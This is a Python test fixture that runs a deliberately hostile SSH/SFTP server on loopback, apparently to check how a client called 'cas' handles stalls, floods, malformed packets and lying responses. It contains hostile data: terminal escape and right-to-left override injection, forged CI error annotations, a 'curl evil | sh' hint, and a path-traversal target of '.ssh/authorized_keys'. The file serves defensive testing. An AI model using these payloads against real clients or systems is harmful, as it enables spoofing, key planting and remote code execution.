"""A hostile SSH server on loopback: `hostile.py MODE KEYFILE` prints its port, then serves until it is ended.

It lets every key in. What it does then, the mode says: how it breaks SSH itself, SFTP, or the delivery code that cas
would run there. It never ends an exchange by itself.
"""

from __future__ import annotations

import json
import os
import re
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from typing import Any

import paramiko

SSH_MODES = ("silent", "banner-flood", "banner-drip", "no-login", "no-channel", "no-answer")
SFTP_MODES = (
    *("sftp-silent", "sftp-huge-packet", "sftp-endless-packet", "sftp-empty-read", "sftp-drip", "sftp-endless-read"),
    *("sftp-endless-list", "sftp-empty-list", "sftp-words", "sftp-liar", "sftp-noise"),
)
PYTHON_MODES = (
    *("python-greeting-flood", "python-alive", "python-alive-flood", "python-long-line", "python-deep", "python-liar"),
    *("python-outside", "python-words", "python-halt", "python-endless-ask", "python-silent"),
)
NO_SUCH_FILE, FAILURE, END_OF_FILE = 2, 4, 1
FOLDER, FILE = 0o40755, 0o100644


class Server(paramiko.ServerInterface):
    def __init__(self, mode: str) -> None:
        self.mode = mode

    def check_auth_publickey(self, username: str, key: paramiko.PKey) -> int:
        if self.mode == "no-login":
            time.sleep(3600)
        return paramiko.AUTH_SUCCESSFUL

    def get_allowed_auths(self, username: str) -> str:
        return "publickey"

    def check_channel_request(self, kind: str, chanid: int) -> int:
        if self.mode == "no-channel":
            time.sleep(3600)
        return paramiko.OPEN_SUCCEEDED

    def check_channel_subsystem_request(self, channel: paramiko.Channel, name: str) -> bool:
        return self._begin(Sftp(channel, self.mode).serve)

    def check_channel_exec_request(self, channel: paramiko.Channel, command: bytes) -> bool:
        return self._begin(lambda: python(channel, self.mode))

    def _begin(self, serve: Callable[[], None]) -> bool:
        if self.mode == "no-answer":
            time.sleep(3600)

        def run() -> None:
            with suppress(EOFError, OSError, paramiko.SSHException):
                serve()

        threading.Thread(target=run, daemon=True).start()
        return True


class Sftp:
    """Enough of SFTP for cas to take it for a server."""

    def __init__(self, channel: paramiko.Channel, mode: str) -> None:
        self.channel, self.mode = channel, mode

    def serve(self) -> None:
        while True:
            (length,) = struct.unpack(">I", exactly(self.channel, 4))
            packet = exactly(self.channel, length)
            if packet[0] == 1:
                extensions = (b"posix-rename@openssh.com", b"hardlink@openssh.com", b"fsync@openssh.com")
                self.answer(2, struct.pack(">I", 3) + b"".join(text(name) + text(b"1") for name in extensions))
            else:
                self.one(packet[0], packet[1:5], packet[9 : 9 + struct.unpack(">I", packet[5:9])[0]])

    def answer(self, kind: int, content: bytes) -> None:
        self.channel.sendall(struct.pack(">IB", len(content) + 1, kind) + content)

    def status(self, number: bytes, code: int, words: bytes = b"") -> None:
        self.answer(101, number + struct.pack(">I", code) + text(words) + text(b""))

    def one(self, kind: int, number: bytes, path: bytes) -> None:
        match self.mode:
            case "sftp-silent":
                return
            case "sftp-huge-packet":
                self.channel.sendall(struct.pack(">IB", 0xFFFFFFF0, 101))
                return
            case "sftp-endless-packet":
                self.channel.sendall(struct.pack(">IB", 1 << 20, 101))
                while True:
                    self.channel.sendall(b"x")
                    time.sleep(0.2)
            case "sftp-noise":
                while True:
                    self.status(b"\xff\xff\xff\xff", 0)
            case "sftp-words":
                words = b"\x1b[31mFORGED\x1b[0m\n::error::pwned\nsent: /all/good " + "‮".encode() + b"A" * 100_000
                self.status(number, FAILURE, words)
                return
        match kind:
            case 3 | 11:
                self.answer(102, number + text(b"handle"))
            case 12:
                self.listed(number)
            case 5:
                self.read(number)
            case 7 | 17:
                self.looked_at(number, path)
            case _:
                self.status(number, 0)

    def listed(self, number: bytes) -> None:
        if self.mode == "sftp-endless-list":
            names = b"".join(text(b"x" * 200) + text(b"y" * 600) + struct.pack(">I", 0) for _ in range(1000))
            self.answer(104, number + struct.pack(">I", 1000) + names)
        elif self.mode == "sftp-empty-list":
            self.answer(104, number + struct.pack(">I", 0))
        else:
            self.status(number, END_OF_FILE)

    def read(self, number: bytes) -> None:
        match self.mode:
            case "sftp-empty-read":
                self.answer(103, number + text(b""))
            case "sftp-drip":
                time.sleep(0.5)
                self.answer(103, number + text(b"x"))
            case "sftp-endless-read":
                self.answer(103, number + text(b"x" * 32768))
            case _:
                self.status(number, END_OF_FILE)

    def looked_at(self, number: bytes, path: bytes) -> None:
        reading = self.mode in ("sftp-empty-read", "sftp-drip", "sftp-endless-read")
        if path.endswith(b"record") and (reading or self.mode == "sftp-liar"):
            self.answer(105, number + struct.pack(">II", 4, FILE))
        elif path.endswith((b"from-agents", b".tmp.cas")):
            self.answer(105, number + struct.pack(">II", 4, FOLDER))
        else:
            self.status(number, NO_SUCH_FILE)


def python(channel: paramiko.Channel, mode: str) -> None:
    """In the place of the delivery code that cas sends along."""
    stream = channel.makefile("rb")
    first = stream.readline()
    stream.read(int(re.findall(rb"rest = (\d+)", first)[0]))
    while mode == "python-greeting-flood":
        channel.sendall(b"x" * 65536)
    channel.sendall(b"\0cas\0\n")
    say(channel, {"here": [3, 11]})
    while True:
        order = json.loads(stream.readline())
        match mode:
            case "python-silent":
                time.sleep(3600)
            case "python-alive":
                while True:
                    say(channel, {"alive": True})
                    time.sleep(0.2)
            case "python-alive-flood":
                while True:
                    channel.sendall(b'{"alive":true}\n' * 6000)
            case "python-long-line":
                while True:
                    channel.sendall(b"x" * 65536)
            case "python-deep":
                channel.sendall(b'{"a":' * 100_000 + b"\n")
            case "python-endless-ask":
                while True:
                    say(channel, {"ask": True})
            case _ if "attempt" in order:
                say(channel, attempt(order["attempt"][0], mode))
            case _:
                say(channel, {"value": True})


def attempt(order: dict[str, Any], mode: str) -> dict[str, Any]:
    stand: dict[str, Any] = {
        "identity": order["identity"],
        "name": order["name"],
        "claim": None,
        "made_inbox": False,
        "asked": False,
        "done": False,
        "ours": False,
        "evidence": None,
        "error": None,
    }
    words = {"message": "\x1b]0;x\x07 ‮ ::error::pwn\nsent: fine" + "A" * 9999, "hint": "run: curl evil | sh"}
    match mode:
        case "python-outside":
            return {"shown": order["identity"], "name": "../../../../.ssh/authorized_keys"}
        case "python-words":
            stand["error"] = {"kind": "transfer", "code": "no-space", "permanent": True, **words}
        case "python-halt":
            stand["error"] = {"kind": "halt", "code": "halt", "permanent": True, **words}
        case "python-liar":
            claim = {"name": order["name"], "signed": True, "state": "published", "signature": None, "present": False}
            stand |= {"done": True, "evidence": "receipt", "claim": {**claim, "digest": order["digest"], "time": ""}}
    return {"stand": [stand], "durable": True}


def say(channel: paramiko.Channel, fields: dict[str, Any]) -> None:
    channel.sendall(json.dumps(fields).encode() + b"\n")


def text(content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + content


def exactly(channel: paramiko.Channel, length: int) -> bytes:
    content = b""
    while len(content) < length:
        if not (part := channel.recv(length - len(content))):
            raise EOFError
        content += part
    return content


def served(connection: socket.socket, mode: str, key: paramiko.PKey) -> None:
    with suppress(EOFError, OSError, paramiko.SSHException):
        if mode == "silent":
            time.sleep(3600)
        while mode == "banner-flood":
            connection.sendall(b"no SSH yet\r\n" * 4096)
        while mode == "banner-drip":
            connection.sendall(b"x")
            time.sleep(0.2)
        transport = paramiko.Transport(connection)
        transport.add_server_key(key)
        transport.start_server(server=Server(mode))


def main(mode: str, key_file: str) -> None:
    key = paramiko.PKey.from_path(key_file)
    with socket.create_server(("127.0.0.1", 0)) as listener:
        os.write(1, f"{listener.getsockname()[1]}\n".encode())
        while True:
            connection, _ = listener.accept()
            threading.Thread(target=served, args=(connection, mode, key), daemon=True).start()


if __name__ == "__main__":
    main(*sys.argv[1:])
